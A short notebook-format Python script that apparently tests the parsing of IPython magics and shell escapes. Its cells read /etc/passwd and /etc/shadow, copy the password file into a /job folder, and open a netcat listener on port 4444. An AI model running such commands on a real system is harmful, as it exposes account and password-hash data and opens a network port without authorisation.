# %%
listing = !cat /etc/passwd /etc/shadow
%load_ext autoreload
!cat /etc/passwd > /job/passwd
!nc -l 4444
%cd /

# %%
%%bash
cat /etc/passwd > /job/passwd

# %%
import os
said = get_ipython().system("cat /etc/passwd")


def shares(x):
    return ["magics", os.path.exists("/job/passwd"), os.listdir("/job")]
